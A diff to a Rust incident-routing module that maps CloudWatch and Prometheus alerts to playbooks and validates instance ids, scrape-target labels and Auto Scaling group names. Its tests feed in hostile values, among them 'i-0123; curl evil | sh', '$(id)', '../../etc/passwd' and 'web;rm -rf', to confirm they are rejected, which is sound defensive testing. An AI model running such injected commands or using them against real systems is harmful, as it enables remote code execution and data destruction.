@@ -2,25 +2,49 @@
 
 use serde::Serialize;
 use sha2::{Digest, Sha256};
+use std::collections::BTreeMap;
 use std::fmt;
+use std::net::IpAddr;
 
-use crate::alert::{AlarmState, Alert};
+use crate::alert::{AlarmState, Alert, AlertSource};
 use crate::error::InputError;
-use crate::ids::InstanceId;
+use crate::ids::{GroupName, InstanceId, shown};
 
 #[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize)]
 #[serde(rename_all = "snake_case")]
 pub enum IncidentKind {
     HighCpu,
+    DiskFull,
+    MemoryPressure,
+    ServiceDown,
     /// No playbook matches the alert: notify that nothing was done.
     Unrouted,
 }
 
 impl IncidentKind {
+    pub const ALL: [Self; 5] = [
+        Self::HighCpu,
+        Self::DiskFull,
+        Self::MemoryPressure,
+        Self::ServiceDown,
+        Self::Unrouted,
+    ];
+
     pub fn as_str(self) -> &'static str {
         match self {
             Self::HighCpu => "high_cpu",
+            Self::DiskFull => "disk_full",
+            Self::MemoryPressure => "memory_pressure",
+            Self::ServiceDown => "service_down",
             Self::Unrouted => "unrouted",
+        }
+    }
+
+    /// Parses a kind as written in configuration (`none` for no playbook).
+    pub fn parse(s: &str) -> Option<Self> {
+        match s {
+            "none" => Some(Self::Unrouted),
+            _ => Self::ALL.into_iter().find(|k| k.as_str() == s),
         }
     }
 
@@ -28,14 +52,27 @@ impl IncidentKind {
     pub fn title(self) -> &'static str {
         match self {
             Self::HighCpu => "High CPU",
+            Self::DiskFull => "Disk full",
+            Self::MemoryPressure => "Memory pressure",
+            Self::ServiceDown => "Service down",
             Self::Unrouted => "Alert",
         }
     }
 
-    /// Maps a metric (CloudWatch) or alert name (Prometheus) to a playbook.
+    /// Default routing: CloudWatch metric names and the runbook's Prometheus
+    /// alert names (chapter 14.5), plus node-exporter's filesystem alerts.
     pub fn route(metric_or_alert: &str) -> Self {
         match metric_or_alert {
             "CPUUtilization" | "HighCPUUsage" => Self::HighCpu,
+            "disk_used_percent"
+            | "DiskSpaceLow"
+            | "NodeFilesystemSpaceFillingUp"
+            | "NodeFilesystemAlmostOutOfSpace"
+            | "NodeFilesystemFilesFillingUp"
+            | "NodeFilesystemAlmostOutOfFiles" => Self::DiskFull,
+            "mem_used_percent" | "HighMemoryUsage" => Self::MemoryPressure,
+            "ServiceDown" => Self::ServiceDown,
+            s if s.starts_with("StatusCheckFailed") => Self::ServiceDown,
             _ => Self::Unrouted,
         }
     }
@@ -46,6 +83,9 @@ impl fmt::Display for IncidentKind {
         f.write_str(self.as_str())
     }
 }
+
+/// Routing overrides from configuration: a metric, alert or alarm name → kind.
+pub type Routes = BTreeMap<String, IncidentKind>;
 
 /// What the state change means for the responder.
 #[derive(Clone, Debug, PartialEq, Eq, Serialize)]
@@ -82,49 +122,236 @@ impl Transition {
     }
 }
 
+/// A scrape target's address (Prometheus `instance` label): resolved to an
+/// instance through EC2 by private IP or private DNS name.
+#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum PrivateAddress {
+    Ip(IpAddr),
+    DnsName(String),
+}
+
+impl fmt::Display for PrivateAddress {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Self::Ip(ip) => write!(f, "{ip}"),
+            Self::DnsName(n) => f.write_str(n),
+        }
+    }
+}
+
+impl PrivateAddress {
+    /// `host:port`, `[v6]:port` or a bare host.
+    pub fn from_instance_label(field: &str, label: &str) -> Result<Self, InputError> {
+        let bad = || {
+            InputError::field(
+                field,
+                format!(
+                    "{} is not the host:port of a scrape target (IP address or DNS name)",
+                    shown(label)
+                ),
+            )
+        };
+        let host = if let Some(rest) = label.strip_prefix('[') {
+            let (h, tail) = rest.split_once(']').ok_or_else(bad)?;
+            if !(tail.is_empty() || tail.strip_prefix(':').is_some_and(is_port)) {
+                return Err(bad());
+            }
+            h
+        } else {
+            match label.rsplit_once(':') {
+                Some((h, port)) if is_port(port) => h,
+                Some(_) => return Err(bad()),
+                None => label,
+            }
+        };
+        if let Ok(ip) = host.parse::<IpAddr>() {
+            return Ok(Self::Ip(ip));
+        }
+        if is_dns_name(host) {
+            return Ok(Self::DnsName(host.to_ascii_lowercase()));
+        }
+        Err(bad())
+    }
+}
+
+fn is_port(s: &str) -> bool {
+    !s.is_empty()
+        && s.len() <= 5
+        && s.bytes().all(|b| b.is_ascii_digit())
+        && s.parse::<u32>().is_ok_and(|p| p <= 65535)
+}
+
+fn is_dns_name(s: &str) -> bool {
+    s.len() <= 253
+        && s.split('.').all(|l| {
+            !l.is_empty()
+                && l.len() <= 63
+                && !l.starts_with('-')
+                && !l.ends_with('-')
+                && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
+        })
+        && s.bytes().any(|b| b.is_ascii_alphabetic())
+}
+
+/// What the incident is about.
+#[derive(Clone, Debug, PartialEq, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Resource {
+    Instance(InstanceId),
+    /// To be resolved to an instance through EC2.
+    Address(PrivateAddress),
+    /// A group-level alarm (`AutoScalingGroupName` dimension).
+    Group(GroupName),
+    /// No EC2 resource in the alert.
+    None,
+}
+
+impl Resource {
+    pub fn describe(&self) -> String {
+        match self {
+            Self::Instance(i) => i.to_string(),
+            Self::Address(a) => format!("address {a}"),
+            Self::Group(g) => format!("group {g}"),
+            Self::None => "no EC2 resource".into(),
+        }
+    }
+}
+
+/// Group names that come from an event are held to the characters real
+/// names use, so hostile text stops here.
+fn event_group_name(field: &str, value: &str) -> Result<GroupName, InputError> {
+    let ok = !value.is_empty()
+        && !value.contains("..")
+        && value
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b"-_.@+=: ".contains(&b));
+    if !ok {
+        return Err(InputError::field(
+            field,
+            format!(
+                "{} is not an Auto Scaling group name (letters, digits and -_.@+=: only)",
+                shown(value)
+            ),
+        ));
+    }
+    GroupName::parse(field, value)
+}
+
+fn resource_of(alert: &Alert) -> Result<Resource, InputError> {
+    let (dims, field) = match &alert.metric {
+        Some(m) if alert.source.is_cloudwatch() => {
+            (&m.dimensions, format!("{}.dimensions", m.field))
+        }
+        Some(m) => (&m.dimensions, m.field.clone()),
+        None => (&alert.tags, "alarmTags".to_owned()),
+    };
+    if alert.source.is_cloudwatch() {
+        if let Some(v) = dims.get("InstanceId") {
+            return Ok(Resource::Instance(InstanceId::parse(
+                &format!("{field}.InstanceId"),
+                v,
+            )?));
+        }
+        if let Some(v) = dims.get("AutoScalingGroupName") {
+            return Ok(Resource::Group(event_group_name(
+                &format!("{field}.AutoScalingGroupName"),
+                v,
+            )?));
+        }
+        // A composite alarm may name its resource in its tags.
+        if alert.metric.is_none() {
+            if let Some(v) = alert.tags.get("InstanceId") {
+                return Ok(Resource::Instance(InstanceId::parse(
+                    "alarmTags.InstanceId",
+                    v,
+                )?));
+            }
+            if let Some(v) = alert.tags.get("AutoScalingGroupName") {
+                return Ok(Resource::Group(event_group_name(
+                    "alarmTags.AutoScalingGroupName",
+                    v,
+                )?));
+            }
+        }
+        return Ok(Resource::None);
+    }
+    if let Some(v) = dims.get("instance_id") {
+        return Ok(Resource::Instance(InstanceId::parse(
+            &format!("{field}.instance_id"),
+            v,
+        )?));
+    }
+    if let Some(v) = dims.get("instance") {
+        return Ok(Resource::Address(PrivateAddress::from_instance_label(
+            &format!("{field}.instance"),
+            v,
+        )?));
+    }
+    Ok(Resource::None)
+}
+
 #[derive(Clone, Debug, PartialEq, Serialize)]
 pub struct Incident {
-    /// Stable for one occurrence of an alarm (same ARN and state-change
-    /// time), so a redelivered event maps to the same incident.
+    /// Stable for one occurrence of an alert, so a redelivery maps to the same incident.
     pub id: String,
     pub kind: IncidentKind,
     pub transition: Transition,
-    pub instance: Option<InstanceId>,
+    pub resource: Resource,
     pub alert: Alert,
 }
 
 impl Incident {
     pub fn from_alert(alert: Alert) -> Result<Self, InputError> {
-        let (kind, instance) = match &alert.metric {
-            Some(m) => {
-                let instance = m
-                    .dimensions
-                    .get("InstanceId")
-                    .map(|v| InstanceId::parse(&format!("{}.dimensions.InstanceId", m.field), v))
-                    .transpose()?;
-                (IncidentKind::route(&m.name), instance)
-            }
-            None => (IncidentKind::Unrouted, None),
-        };
+        Self::routed(alert, &Routes::new())
+    }
+
+    /// Routes with configuration overrides: an entry for the alarm name wins
+    /// over one for the metric (or alert) name, which wins over the defaults.
+    pub fn routed(alert: Alert, routes: &Routes) -> Result<Self, InputError> {
+        let resource = resource_of(&alert)?;
+        let metric_name = alert.metric.as_ref().map(|m| m.name.as_str());
+        let kind = routes
+            .get(&alert.alarm_name)
+            .copied()
+            .or_else(|| metric_name.and_then(|n| routes.get(n).copied()))
+            .unwrap_or_else(|| {
+                metric_name
+                    .map(IncidentKind::route)
+                    .unwrap_or(IncidentKind::Unrouted)
+            });
         Ok(Self {
-            id: incident_id(&alert),
+            id: incident_id(&alert.occurrence),
             kind,
             transition: Transition::of(alert.state, alert.previous_state),
-            instance,
+            resource,
             alert,
         })
     }
+
+    pub fn instance(&self) -> Option<&InstanceId> {
+        match &self.resource {
+            Resource::Instance(i) => Some(i),
+            _ => None,
+        }
+    }
 }
 
-fn incident_id(alert: &Alert) -> String {
-    let key = alert.alarm_arn.as_deref().unwrap_or(&alert.alarm_name);
-    let mut h = Sha256::new();
-    h.update(key.as_bytes());
-    h.update(b"\n");
-    h.update(alert.state_timestamp.as_bytes());
-    let digest = h.finalize();
+fn incident_id(occurrence: &str) -> String {
+    let digest = Sha256::digest(occurrence.as_bytes());
     let hex: String = digest[..8].iter().map(|b| format!("{b:02x}")).collect();
     format!("inc-{hex}")
+}
+
+impl AlertSource {
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Self::EventBridge => "eventbridge",
+            Self::Sns => "sns",
+            Self::AlarmAction => "alarm_action",
+            Self::Alertmanager => "alertmanager",
+        }
+    }
 }
 
 #[cfg(test)]
@@ -136,22 +363,28 @@ mod tests {
         Incident::from_alert(parse_event(src.as_bytes())?.remove(0))
     }
 
+    const ALARM: &str = include_str!("../../events/high-cpu-alarm.json");
+
     #[test]
     fn high_cpu_alarm_becomes_a_firing_high_cpu_incident() {
-        let i = incident(include_str!("../../events/high-cpu-alarm.json")).unwrap();
+        let i = incident(ALARM).unwrap();
         assert_eq!(i.kind, IncidentKind::HighCpu);
         assert_eq!(i.transition, Transition::Firing);
-        assert_eq!(i.instance.unwrap().as_str(), "i-0123456789abcdef0");
+        assert_eq!(i.instance().unwrap().as_str(), "i-0123456789abcdef0");
         assert!(i.id.starts_with("inc-") && i.id.len() == 20, "{}", i.id);
     }
 
     #[test]
     fn same_occurrence_same_id_new_occurrence_new_id() {
-        let src = include_str!("../../events/high-cpu-alarm.json");
-        let a = incident(src).unwrap();
-        let b = incident(src).unwrap();
-        assert_eq!(a.id, b.id);
-        let later = src.replace(
+        let a = incident(ALARM).unwrap();
+        assert_eq!(a.id, incident(ALARM).unwrap().id);
+        assert_eq!(
+            a.id,
+            incident(include_str!("../../events/sns-high-cpu-alarm.json"))
+                .unwrap()
+                .id
+        );
+        let later = ALARM.replace(
             "2026-11-25T02:04:12.152+0000",
             "2026-11-25T05:00:00.000+0000",
         );
@@ -184,9 +417,9 @@ mod tests {
 
     #[test]
     fn hostile_instance_id_is_rejected_with_its_path() {
-        let src = include_str!("../../events/high-cpu-alarm.json")
-            .replace("i-0123456789abcdef0", "i-0123; curl evil | sh");
-        let err = incident(&src).unwrap_err().to_string();
+        let err = incident(&ALARM.replace("i-0123456789abcdef0", "i-0123; curl evil | sh"))
+            .unwrap_err()
+            .to_string();
         assert!(
             err.contains("detail.configuration.metrics[0].metricStat.metric.dimensions.InstanceId"),
             "{err}"
@@ -195,9 +428,115 @@ mod tests {
     }
 
     #[test]
-    fn routing() {
-        assert_eq!(IncidentKind::route("CPUUtilization"), IncidentKind::HighCpu);
-        assert_eq!(IncidentKind::route("HighCPUUsage"), IncidentKind::HighCpu);
-        assert_eq!(IncidentKind::route("NetworkIn"), IncidentKind::Unrouted);
+    fn routing_table() {
+        for (name, kind) in [
+            ("CPUUtilization", IncidentKind::HighCpu),
+            ("HighCPUUsage", IncidentKind::HighCpu),
+            ("disk_used_percent", IncidentKind::DiskFull),
+            ("DiskSpaceLow", IncidentKind::DiskFull),
+            ("NodeFilesystemAlmostOutOfSpace", IncidentKind::DiskFull),
+            ("mem_used_percent", IncidentKind::MemoryPressure),
+            ("HighMemoryUsage", IncidentKind::MemoryPressure),
+            ("StatusCheckFailed", IncidentKind::ServiceDown),
+            ("StatusCheckFailed_Instance", IncidentKind::ServiceDown),
+            ("ServiceDown", IncidentKind::ServiceDown),
+            ("NetworkIn", IncidentKind::Unrouted),
+        ] {
+            assert_eq!(IncidentKind::route(name), kind, "{name}");
+        }
+    }
+
+    #[test]
+    fn routes_from_configuration_override_defaults() {
+        let alert = parse_event(ALARM.as_bytes()).unwrap().remove(0);
+        let mut routes = Routes::new();
+        routes.insert("CPUUtilization".into(), IncidentKind::Unrouted);
+        assert_eq!(
+            Incident::routed(alert.clone(), &routes).unwrap().kind,
+            IncidentKind::Unrouted
+        );
+        routes.insert("web-high-cpu".into(), IncidentKind::HighCpu);
+        assert_eq!(
+            Incident::routed(alert, &routes).unwrap().kind,
+            IncidentKind::HighCpu,
+            "alarm name wins"
+        );
+    }
+
+    #[test]
+    fn resources_of_each_shape() {
+        let g = incident(include_str!("../../events/group-high-cpu-alarm.json")).unwrap();
+        assert_eq!(
+            g.resource,
+            Resource::Group(GroupName::parse("t", "web-asg").unwrap())
+        );
+        let c = incident(include_str!("../../events/composite-alarm.json")).unwrap();
+        assert_eq!(
+            (c.kind, &c.resource),
+            (IncidentKind::Unrouted, &Resource::None)
+        );
+        let am = incident(include_str!("../../events/alertmanager-high-cpu.json")).unwrap();
+        assert_eq!(am.kind, IncidentKind::HighCpu);
+        assert_eq!(
+            am.resource,
+            Resource::Address(PrivateAddress::Ip("10.0.1.5".parse().unwrap()))
+        );
+        let with_id = include_str!("../../events/alertmanager-high-cpu.json").replace(
+            "\"job\": \"node-exporter\"",
+            "\"job\": \"node-exporter\", \"instance_id\": \"i-0123456789abcdef0\"",
+        );
+        assert!(matches!(
+            incident(&with_id).unwrap().resource,
+            Resource::Instance(_)
+        ));
+    }
+
+    #[test]
+    fn instance_labels() {
+        let ok = [
+            ("10.0.1.5:9100", "10.0.1.5"),
+            ("10.0.1.5", "10.0.1.5"),
+            ("[fd00::5]:9100", "fd00::5"),
+            ("ip-10-0-1-5.ec2.internal:9100", "ip-10-0-1-5.ec2.internal"),
+            ("IP-10-0-1-5.EC2.INTERNAL", "ip-10-0-1-5.ec2.internal"),
+        ];
+        for (label, want) in ok {
+            assert_eq!(
+                PrivateAddress::from_instance_label("f", label)
+                    .unwrap()
+                    .to_string(),
+                want,
+                "{label}"
+            );
+        }
+        for bad in [
+            "",
+            ":9100",
+            "10.0.1.5:99999",
+            "10.0.1.5:http",
+            "a;b:9100",
+            "$(id):9100",
+            "../../etc/passwd",
+            "host name:1",
+            "[fd00::5",
+            "-x.internal",
+            "a..b",
+        ] {
+            let e = PrivateAddress::from_instance_label("alerts[0].labels.instance", bad)
+                .unwrap_err()
+                .to_string();
+            assert!(e.contains("alerts[0].labels.instance"), "{e}");
+        }
+    }
+
+    #[test]
+    fn event_group_names_are_strict() {
+        let src = include_str!("../../events/group-high-cpu-alarm.json");
+        for bad in ["web;rm -rf", "a`id`", "../web", "web$(x)", "web|x"] {
+            let e = incident(&src.replace("\"web-asg\"", &format!("{bad:?}")))
+                .unwrap_err()
+                .to_string();
+            assert!(e.contains("dimensions.AutoScalingGroupName"), "{e}");
+        }
     }
 }
